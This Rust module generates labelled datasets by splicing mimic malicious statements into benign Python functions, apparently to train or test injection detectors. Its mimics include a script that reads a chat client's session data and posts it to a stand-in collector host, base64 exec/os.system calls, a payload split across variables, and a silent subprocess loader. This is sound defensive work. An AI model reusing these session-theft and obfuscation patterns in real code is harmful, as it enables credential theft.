//! Injection-campaign simulation.
//!
//! Payloads are inert structural mimics of known injection styles: they
//! have the syntactic shape of the real thing (an `exec` of a base64 blob,
//! a subprocess launch of a file next to the program, ...) but decode to
//! harmless text and reference made-up helpers.

use std::collections::{BTreeMap, HashMap};
use std::sync::OnceLock;

use base64::Engine;
use rand::seq::index;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};

use crate::astpath::{parse_function_layout, BodyLayout, ParseError};
use crate::corpus::{normalize_source, CorpusError, CorpusIndex, FunctionRecord, Label};

#[derive(Debug, thiserror::Error)]
pub enum InjectError {
    #[error("record {id:?} does not parse: {source}")]
    Unparseable {
        id: String,
        #[source]
        source: ParseError,
    },
    #[error("record {0:?} is already injected")]
    NotBenign(String),
    #[error("function type {0:?} has no records")]
    EmptyType(String),
    #[error("invalid campaign config: {0}")]
    Config(String),
    #[error(transparent)]
    Corpus(#[from] CorpusError),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AttackType {
    ExecObfuscated,
    ExecPlainScript,
    OsSystemObfuscated,
    RootFileLoader,
    SplitPayloadConcat,
}

impl AttackType {
    pub const ALL: [AttackType; 5] = [
        AttackType::ExecObfuscated,
        AttackType::ExecPlainScript,
        AttackType::OsSystemObfuscated,
        AttackType::RootFileLoader,
        AttackType::SplitPayloadConcat,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            AttackType::ExecObfuscated => "exec_obfuscated",
            AttackType::ExecPlainScript => "exec_plain_script",
            AttackType::OsSystemObfuscated => "os_system_obfuscated",
            AttackType::RootFileLoader => "root_file_loader",
            AttackType::SplitPayloadConcat => "split_payload_concat",
        }
    }
}

impl std::fmt::Display for AttackType {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

impl std::str::FromStr for AttackType {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        AttackType::ALL
            .into_iter()
            .find(|a| a.as_str() == s)
            .ok_or_else(|| format!("unknown attack type {s:?}"))
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Placement {
    Prologue,
    Distributed,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PayloadSpec {
    pub attack_type: AttackType,
    pub statements: Vec<String>,
    pub placement: Placement,
}

// Decodes to a harmless script; only its shape and length matter.
const INERT_SCRIPT: &str = "import sys\n\
print('integrity probe: this text stands in for a decoded payload')\n\
print('nothing here touches the network or the filesystem')\n\
for step in range(3):\n    print('probe step', step)\n\
sys.stdout.flush()\n";

/// Base64 blob of the inert script (about 300 characters).
pub fn payload_blob() -> &'static str {
    static BLOB: OnceLock<String> = OnceLock::new();
    BLOB.get_or_init(|| base64::engine::general_purpose::STANDARD.encode(INERT_SCRIPT))
}

const PLAIN_SCRIPT: [&str; 15] = [
    "local_root = os.getenv(\"LOCALAPPDATA\", \"\")",
    "app_dir = os.path.join(local_root, \"ChatClient\", \"Local Storage\")",
    "db_path = os.path.join(app_dir, \"leveldb\", \"state.sqlite\")",
    "found = os.path.exists(db_path)",
    "handle = open(db_path, \"rb\")",
    "raw_state = handle.read()",
    "handle.close()",
    "marker = raw_state.find(b\"session\")",
    "session_value = raw_state[marker]",
    "report = \"user={} session={}\".format(os.getlogin(), session_value)",
    "headers = {\"Content-Type\": \"application/json\", \"User-Agent\": \"updater\"}",
    "body = json.dumps({\"content\": report, \"found\": found})",
    "endpoint = \"https://collector.invalid/api/upload\"",
    "channel = transport_stub.Channel(endpoint, timeout=5)",
    "channel.post(body.encode(), headers=headers)",
];

/// The fixed mimic for one attack kind.
pub fn make_payload(attack_type: AttackType) -> PayloadSpec {
    let blob = payload_blob();
    let (statements, placement) = match attack_type {
        AttackType::ExecObfuscated => (
            vec![format!("exec(base64.b64decode(\"{blob}\"))")],
            Placement::Prologue,
        ),
        AttackType::ExecPlainScript => (
            PLAIN_SCRIPT.iter().map(|s| s.to_string()).collect(),
            Placement::Prologue,
        ),
        AttackType::OsSystemObfuscated => (
            vec![format!("os.system(base64.b64decode(\"{blob}\"))")],
            Placement::Prologue,
        ),
        AttackType::RootFileLoader => (
            vec!["subprocess.Popen([\"python\", os.path.join(os.path.dirname(os.path.abspath(__file__)), \"helper_task.py\")], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)".to_string()],
            Placement::Prologue,
        ),
        AttackType::SplitPayloadConcat => {
            let chars: Vec<char> = blob.chars().collect();
            let quarter = chars.len().div_ceil(4);
            let names = ["part_a", "part_b", "part_c", "part_d"];
            let mut lines: Vec<String> = chars
                .chunks(quarter)
                .zip(names)
                .map(|(chunk, name)| format!("{name} = \"{}\"", chunk.iter().collect::<String>()))
                .collect();
            lines.push(format!("os.system(base64.b64decode({}))", names.join(" + ")));
            (lines, Placement::Distributed)
        }
    };
    PayloadSpec {
        attack_type,
        statements,
        placement,
    }
}

fn line_start(src: &str, at: usize) -> usize {
    src[..at].rfind('\n').map_or(0, |i| i + 1)
}

fn indentation_of_line(src: &str, at: usize) -> String {
    let start = line_start(src, at);
    src[start..].chars().take_while(|c| *c == ' ').collect()
}

/// Rewrites `def f(): a; b` into block form so that lines can be inserted.
fn to_block_form(src: &str, layout: &BodyLayout) -> String {
    let header = &src[..layout.header_end];
    let rest = src[layout.header_end..].trim_start_matches(' ');
    format!("{header}\n{}{rest}", " ".repeat(layout.def_indent + 4))
}

/// Positions (relative to the first non-docstring statement) before which
/// each of `k` fragments is placed in a body of `n` statements:
/// `ceil(i * n / k)`.
pub fn distributed_positions(n: usize, k: usize) -> Vec<usize> {
    (0..k).map(|i| (i * n).div_ceil(k)).collect()
}

/// Splices `payload` into a benign record; see [`Placement`] for where the
/// lines go. The returned record is labeled injected; its id is the benign
/// id plus the attack name and the suffix `#inj`, so injected copies made by
/// different attacks never share an id.
pub fn inject_function(record: &FunctionRecord, payload: &PayloadSpec) -> Result<FunctionRecord, InjectError> {
    if record.is_injected() {
        return Err(InjectError::NotBenign(record.id.clone()));
    }
    let unparseable = |source| InjectError::Unparseable {
        id: record.id.clone(),
        source,
    };
    let mut src = record.normalized_source.clone();
    let (_, mut layout) = parse_function_layout(&src).map_err(unparseable)?;
    if layout.inline_suite {
        src = to_block_form(&src, &layout);
        layout = parse_function_layout(&src).map_err(unparseable)?.1;
    }
    let body = &layout.body;
    let offset = usize::from(body.first().is_some_and(|s| s.is_docstring));
    let indent = indentation_of_line(&src, body[0].start);

    // statement index -> lines inserted before it; index == body.len() means after the body
    let mut inserts: BTreeMap<usize, Vec<&str>> = BTreeMap::new();
    let n = body.len() - offset;
    let mut fallback = false;
    match payload.placement {
        Placement::Distributed if n >= 2 => {
            let (fragments, last) = payload.statements.split_at(payload.statements.len() - 1);
            let positions = distributed_positions(n, fragments.len());
            for (frag, pos) in fragments.iter().zip(&positions) {
                inserts.entry(offset + pos).or_default().push(frag);
            }
            let last_pos = offset + positions.last().copied().unwrap_or(0);
            inserts.entry(last_pos).or_default().push(&last[0]);
        }
        placement => {
            fallback = placement == Placement::Distributed;
            inserts
                .entry(offset)
                .or_default()
                .extend(payload.statements.iter().map(String::as_str));
        }
    }

    let mut out = src.clone();
    for (&pos, lines) in inserts.iter().rev() {
        if pos == body.len() {
            let end = body[pos - 1].end;
            let at = src[end..].find('\n').map_or(src.len(), |i| end + i + 1);
            let mut text = String::new();
            if at == src.len() && !src.ends_with('\n') {
                text.push('\n');
            }
            for l in lines {
                text.push_str(&format!("{indent}{l}\n"));
            }
            out.insert_str(at, &text);
        } else if body[pos].first_on_line {
            let at = line_start(&src, body[pos].start);
            let text: String = lines.iter().map(|l| format!("{indent}{l}\n")).collect();
            out.insert_str(at, &text);
        } else {
            let text: String = lines.iter().map(|l| format!("{l}; ")).collect();
            out.insert_str(body[pos].start, &text);
        }
    }

    let normalized = normalize_source(&out);
    Ok(FunctionRecord {
        id: format!("{}:{}#inj", record.id, payload.attack_type.as_str()),
        function_name: record.function_name.clone(),
        source: out,
        normalized_source: normalized,
        origin: record.origin.clone(),
        label: Label::Injected,
        attack_type: Some(payload.attack_type),
        fallback_prologue: fallback,
    })
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CampaignConfig {
    pub rate: f64,
    pub attacks: Vec<AttackType>,
    pub seed: u64,
    pub target_types: Vec<String>,
}

pub const MAX_RATE: f64 = 0.1;

impl CampaignConfig {
    pub fn validate(&self) -> Result<(), InjectError> {
        if !(self.rate > 0.0 && self.rate <= MAX_RATE) {
            return Err(InjectError::Config(format!(
                "rate must be in (0, {MAX_RATE}], got {}",
                self.rate
            )));
        }
        if self.attacks.is_empty() {
            return Err(InjectError::Config("attacks must not be empty".into()));
        }
        if self.target_types.is_empty() {
            return Err(InjectError::Config("target_types must not be empty".into()));
        }
        Ok(())
    }

    /// `max(1, floor(rate * n))`.
    pub fn injected_count(&self, n: usize) -> usize {
        // the epsilon keeps products such as 0.1 * 70 on the right side of the floor
        ((self.rate * n as f64 + 1e-9).floor() as usize).clamp(1, n.max(1))
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ManifestEntry {
    pub id: String,
    pub attack_type: AttackType,
}

#[derive(Debug, Clone)]
pub struct Campaign {
    pub index: CorpusIndex,
    pub manifest: Vec<ManifestEntry>,
}

impl Campaign {
    pub fn manifest_jsonl(&self) -> String {
        crate::io::to_jsonl(&self.manifest)
    }
}

/// Injects `max(1, floor(rate * n))` uniformly chosen records of every
/// target type. Record order is preserved; RNG draws happen per target type
/// in config order (selection first, then one attack draw per selected
/// record in corpus order).
pub fn simulate_campaign(index: &CorpusIndex, config: &CampaignConfig) -> Result<Campaign, InjectError> {
    config.validate()?;
    let mut rng = ChaCha8Rng::seed_from_u64(config.seed);
    let mut chosen: HashMap<&str, AttackType> = HashMap::new();
    for name in &config.target_types {
        let ids = index
            .by_type()
            .get(name)
            .filter(|ids| !ids.is_empty())
            .ok_or_else(|| InjectError::EmptyType(name.clone()))?;
        let m = config.injected_count(ids.len());
        let mut picks = index::sample(&mut rng, ids.len(), m).into_vec();
        picks.sort_unstable();
        for p in picks {
            let attack = config.attacks[rng.gen_range(0..config.attacks.len())];
            chosen.insert(ids[p].as_str(), attack);
        }
    }

    let payloads: HashMap<AttackType, PayloadSpec> = config.attacks.iter().map(|a| (*a, make_payload(*a))).collect();
    let mut records = Vec::with_capacity(index.len());
    let mut manifest = Vec::new();
    for rec in index.records() {
        match chosen.get(rec.id.as_str()) {
            Some(attack) => {
                let injected = inject_function(rec, &payloads[attack])?;
                manifest.push(ManifestEntry {
                    id: injected.id.clone(),
                    attack_type: *attack,
                });
                records.push(injected);
            }
            None => records.push(rec.clone()),
        }
    }
    Ok(Campaign {
        index: CorpusIndex::new(records)?,
        manifest,
    })
}
